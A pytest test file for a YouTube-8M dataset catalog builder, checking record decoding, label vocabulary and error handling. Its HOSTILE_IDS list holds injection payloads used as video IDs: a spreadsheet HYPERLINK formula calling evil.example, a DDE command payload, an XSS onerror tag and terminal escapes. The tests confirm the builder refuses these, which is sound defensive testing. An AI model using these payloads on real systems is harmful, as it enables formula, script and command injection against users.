from __future__ import annotations

import csv
import importlib.resources
import io
from pathlib import Path

import numpy as np
import pytest

from core.catalog import vocabulary
from core.catalog.build.build import build_catalog
from core.catalog.classes import class_name
from core.catalog.clips import Clips
from core.catalog.records import youtube8m
from core.catalog.records.tfrecord import read_batches
from core.errors import CatalogError
from resources.make_vocabulary import make_vocabulary
from tests.record_writers import (
    Example,
    SequenceExample,
    frame_record,
    framed,
    raw_records,
    video_record,
    write_shard,
)

AUDIO = [float(value) for value in np.linspace(-2.5, 2.5, 128)]


def expected(folder: Path) -> list[tuple[str, list[int], list[int]]]:
    """Return (id, labels, quantised audio) of all videos, as protobuf reads them."""
    videos = []
    for shard in sorted(folder.glob("*.tfrecord")):
        for record in raw_records(shard.read_bytes()):
            feature = Example.FromString(record).features.feature
            key = "video_id" if "video_id" in feature else "id"
            audio = np.array(feature["mean_audio"].float_list.value, dtype=np.float32)
            audio = ((np.clip(audio, -2, 2) + 2) * (255 / 4)).astype(np.uint8)
            videos.append(
                (
                    feature[key].bytes_list.value[0].decode(),
                    list(feature["labels"].int64_list.value),
                    audio.tolist(),
                )
            )
    return videos


@pytest.fixture(params=["made", pytest.param("real", marks=pytest.mark.real_data)])
def shards(request: pytest.FixtureRequest) -> Path:
    """Return the folder with shards of all kinds: made here, and real ones."""
    if request.param == "real":
        return request.getfixturevalue("shared") / "youtube8m"
    return request.getfixturevalue("youtube8m_shards")


@pytest.mark.parametrize("version", ["v1_video", "v2_video"])
def test_videos_equal_the_records(shards: Path, tmp_path: Path, version: str):
    folder = shards / version
    catalog = build_catalog(tmp_path / "out", "youtube8m", [folder])
    offsets = catalog.label_offsets
    found = [
        (
            catalog.clips["video_id"][row].decode(),
            catalog.label_indices[offsets[row] : offsets[row + 1]].tolist(),
            catalog.frames[row].tolist(),
        )
        for row in range(len(catalog))
    ]
    assert found == expected(folder)
    assert len(found) > 500


def test_only_eleven_characters_are_a_youtube_id(shards: Path, tmp_path: Path):
    v1 = build_catalog(tmp_path / "v1", "youtube8m", [shards / "v1_video"])
    lengths = np.char.str_len(v1.clips["video_id"])
    assert set(lengths.tolist()) == {9, 11}
    assert np.array_equal(v1.clips["is_youtube_id"], lengths == 11)
    v2 = build_catalog(tmp_path / "v2", "youtube8m", [shards / "v2_video"])
    assert not v2.clips["is_youtube_id"].any()
    clip = v2.clip(0)
    assert (len(clip.video_id), clip.start_s, clip.end_s) == (4, 0, 0)
    assert set(clip.labels) <= {label.name for label in vocabulary.labels().values()}
    assert v1.clip(0).labels == () or v1.clip(0).labels[0].startswith("YouTube-8M #")


def test_classes_are_chosen_by_name_or_number(shards: Path, tmp_path: Path):
    folder = shards / "v2_video"
    catalog = build_catalog(
        tmp_path / "out",
        "youtube8m",
        [folder],
        include=["0", "YouTube-8M #3", "guitar"],
        exclude=["Video game"],
    )
    labels = [set(video[1]) for video in expected(folder)]
    assert catalog.class_indices(["Guitar"]) == {9}
    assert len(catalog) == sum(bool(row & {0, 3, 9}) and 1 not in row for row in labels)
    numbers = (("4800", "number"), ("-1", "K-1"), ("²", "number"), ("9" * 5000, "number"))
    for wrong, hint in (("Gitar", "Guitar"), *numbers):
        with pytest.raises(CatalogError, match="no class") as caught:
            build_catalog(tmp_path / "out", "youtube8m", [folder], include=[wrong])
        assert hint in caught.value.hint


def test_names_are_those_of_version_2_only(shards: Path, tmp_path: Path):
    folder = shards / "v1_video"
    with pytest.raises(CatalogError, match="version 1"):
        build_catalog(tmp_path / "out", "youtube8m", [folder], include=["Guitar"])
    catalog = build_catalog(tmp_path / "out", "youtube8m", [folder], include=["8"])
    assert {"YouTube-8M #8"} <= set(catalog.clip(0).labels)
    with pytest.raises(CatalogError, match="no class"):
        catalog.class_indices(["Guitar"])


@pytest.mark.real_data
def test_the_vocabulary_is_the_official_one(shared: Path):
    path = shared / "youtube8m" / "v2_vocabulary.csv"
    text = importlib.resources.files("resources").joinpath("youtube8m.csv").read_text("utf-8")
    assert text == make_vocabulary(path)
    with path.open(encoding="utf-8", newline="") as file:
        names = {int(row["Index"]): row["Name"] for row in csv.DictReader(file)}
    assert len(names) == 3862
    for index, name in names.items():
        assert class_name("youtube8m", index) == (name or f"YouTube-8M #{index}")


@pytest.mark.parametrize(
    ("record", "reason"),
    [
        (b"\xff" * 20, "not an Example"),
        (video_record(labels=[1]), "no id or no mean_audio"),
        (video_record(id=b"abcd", labels=[1]), "no id or no mean_audio"),
        (video_record(mean_audio=AUDIO), "no id or no mean_audio"),
        (video_record(id=b"", mean_audio=AUDIO), "odd video id"),
        (video_record(id=b"a b\n", mean_audio=AUDIO), "odd video id"),
        (video_record(id=b"x" * 65, mean_audio=AUDIO), "odd video id"),
        (video_record(id=b"abcd", mean_audio=AUDIO[:127]), "not 128 finite numbers"),
        (video_record(id=b"abcd", mean_audio=[*AUDIO[:127], float("nan")]), "not 128 finite"),
        (video_record(id=b"abcd", mean_audio=b"x"), "not 128 finite numbers"),
        (video_record(id=b"abcd", mean_audio=AUDIO, labels=[4800]), "label outside"),
        (video_record(id=b"abcd", mean_audio=AUDIO, labels=[-1]), "label outside"),
    ],
)
def test_a_wrong_record_is_named(tmp_path: Path, record: bytes, reason: str):
    good = video_record(id=b"abcd", mean_audio=AUDIO, labels=[1])
    shard = write_shard(tmp_path / "train00.tfrecord", [good, record])
    with pytest.raises(CatalogError) as caught:
        build_catalog(tmp_path / "out", "youtube8m", [shard])
    assert "train00.tfrecord: record 1 " in caught.value.message
    assert reason in caught.value.message
    assert not (tmp_path / "out").exists()


def test_frame_level_shards(shards: Path, tmp_path: Path):
    folder = shards / "frame_sample"
    catalog = build_catalog(tmp_path / "out", "youtube8m", [folder], visual=True)
    videos = []
    for shard in sorted(folder.glob("*.tfrecord")):
        for record in raw_records(shard.read_bytes()):
            example = SequenceExample.FromString(record)
            lists = example.feature_lists.feature_list
            audio, rgb = (
                np.array([list(row.bytes_list.value[0]) for row in lists[key].feature])
                for key in ("audio", "rgb")
            )
            context = example.context.feature
            key = context["video_id" if "video_id" in context else "id"].bytes_list.value[0]
            videos.append((key.decode(), list(context["labels"].int64_list.value), audio, rgb))
    assert len(catalog) == len(videos) == 2
    for row, (key, labels, audio, rgb) in enumerate(videos):
        clip = catalog.clip(row)
        assert (clip.video_id, clip.start_s, clip.end_s) == (key, 0, len(audio))
        assert clip.labels == tuple(catalog.label_name(label) for label in labels)
        assert np.array_equal(clip.frames, audio)
        mean = (rgb.astype(float) - 127).mean(axis=0)[: youtube8m.VISUAL_SIZE]
        assert cosine(catalog.visual[row], mean) > 0.999


def cosine(one: np.ndarray, other: np.ndarray) -> float:
    one, other = one.astype(float), other.astype(float)
    return float(one @ other / np.linalg.norm(one) / np.linalg.norm(other))


@pytest.mark.parametrize("version", ["v1_video", "v2_video"])
def test_pictures_are_kept_on_request(shards: Path, tmp_path: Path, version: str):
    folder = shards / version
    catalog = build_catalog(tmp_path / "out", "youtube8m", [folder], visual=True)
    assert catalog.visual.shape == (len(catalog), youtube8m.VISUAL_SIZE)
    row = 0
    for shard in sorted(folder.glob("*.tfrecord")):
        for record in raw_records(shard.read_bytes()):
            rgb = np.array(Example.FromString(record).features.feature["mean_rgb"].float_list.value)
            assert cosine(catalog.visual[row], rgb[: youtube8m.VISUAL_SIZE]) > 0.999
            row += 1
    with pytest.raises(CatalogError, match="visual vectors"):
        other = write_shard(
            tmp_path / "other.tfrecord", [video_record(id=b"new1", mean_audio=AUDIO)]
        )
        build_catalog(tmp_path / "out", "youtube8m", [other])


def test_the_careful_walker_says_the_same(shards: Path):
    rng = np.random.default_rng(0)
    seconds = [
        [rng.bytes(size) for _ in range(count)] for count in (1, 4, 230) for size in (128, 1024)
    ]
    pairs = zip(seconds[::2], seconds[1::2], strict=True)
    framewise = [frame_record(audio, rgb, id=b"abcd", labels=[3]) for audio, rgb in pairs]
    paths = ("v1_video/testa0", "v1_video/validatea0", "v2_video/validate0000")
    videowise = [(shards / f"{path}.tfrecord").read_bytes() for path in paths]
    streams = [io.BytesIO(shard) for shard in (b"".join(map(framed, framewise)), *videowise)]
    # One after the other: a batch is gone when the next one is read.
    for batch in (batch for stream in streams for batch in read_batches([("shard", stream)])):
        fast, rows = youtube8m.decode_usual(batch, visual=True)
        assert len(rows) == len(batch)
        slow = Clips.concatenate([youtube8m.decode_one(batch, row, True) for row in rows])
        for one, other in zip(fast.columns(), slow.columns(), strict=True):
            assert np.array_equal(one, other)


def test_both_levels_in_one_shard(tmp_path: Path):
    seconds = [bytes([value]) * 128 for value in (3, 200, 7)]
    pictures = [bytes([value]) * 1024 for value in (0, 255, 255)]
    rgb = [0.25] * 1024
    records = [
        video_record(id=b"abcd", mean_audio=AUDIO, mean_rgb=rgb, labels=[5]),
        frame_record(seconds, pictures, id=b"efgh", labels=[4799]),
        frame_record(seconds[:1], pictures[:1], video_id=b"abcdefghijk"),
    ]
    shard = write_shard(tmp_path / "mixed.tfrecord", records)
    catalog = build_catalog(tmp_path / "out", "youtube8m", [shard], visual=True)
    assert catalog.clips["n_frames"].tolist() == [1, 3, 1]
    assert catalog.clips["end_s"].tolist() == [0, 3, 1]
    assert catalog.clips["n_labels"].tolist() == [1, 1, 0]
    assert catalog.clips["is_youtube_id"].tolist() == [False, False, True]
    assert catalog.frames[1:4, 0].tolist() == [3, 200, 7]
    assert catalog.visual[:, 0].tolist() == [127, 127, -127]


@pytest.mark.parametrize(
    ("record", "reason"),
    [
        (frame_record([bytes(127)], [bytes(1024)], id=b"abcd"), "audio that is not 128 bytes"),
        (frame_record([bytes(128)], [bytes(128)], id=b"abcd"), "rgb that is not 1024 bytes"),
        (frame_record([], [bytes(1024)], id=b"abcd"), "no id or no mean_audio"),
        (frame_record([bytes(128)], [], id=b"abcd"), "mean_rgb that is not 1024 finite"),
        (video_record(id=b"abcd", mean_audio=AUDIO), "mean_rgb that is not 1024 finite"),
    ],
)
def test_a_wrong_frame_level_record_is_named(tmp_path: Path, record: bytes, reason: str):
    shard = write_shard(tmp_path / "train00.tfrecord", [record])
    with pytest.raises(CatalogError, match=reason):
        build_catalog(tmp_path / "out", "youtube8m", [shard], visual=True)


HOSTILE_IDS = [
    b'=HYPERLINK("http://evil.example/?"&A1;"click")',
    b"=cmd|'/Ccalc'!A0",
    b"@SUM(1+9)",
    b"+1",
    b"<img/src=x/onerror=alert(1)>",
    b"a\nb",
    b"a\x1b[2J",
    b"\tab",
    "é".encode(),
    b"a" * 65,
    b"",
    b"a b",
]


@pytest.mark.parametrize("video_id", HOSTILE_IDS)
@pytest.mark.parametrize("key", ["id", "video_id"])
def test_a_hostile_id_is_refused_where_it_enters(tmp_path: Path, video_id: bytes, key: str):
    mean = [0.5] * 128
    records = [
        video_record(id=b"nR4i", labels=[1], mean_audio=mean),
        video_record(**{key: video_id}, labels=[1], mean_audio=mean),
    ]
    shard = write_shard(tmp_path / "a.tfrecord", records)
    with pytest.raises(CatalogError, match=r"a\.tfrecord: record 1 has (an odd video id|no id)"):
        build_catalog(tmp_path / "out", "youtube8m", [shard])
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize("video_id", [b"-4i_", b"123456789", b"D:/sounds/v1.mp4", b"-" * 64])
def test_ids_of_every_known_form_are_kept(tmp_path: Path, video_id: bytes):
    record = video_record(id=video_id, labels=[1], mean_audio=[0.5] * 128)
    catalog = build_catalog(
        tmp_path / "out", "youtube8m", [write_shard(tmp_path / "a.tfrecord", [record])]
    )
    assert catalog.clips["video_id"].tolist() == [video_id]
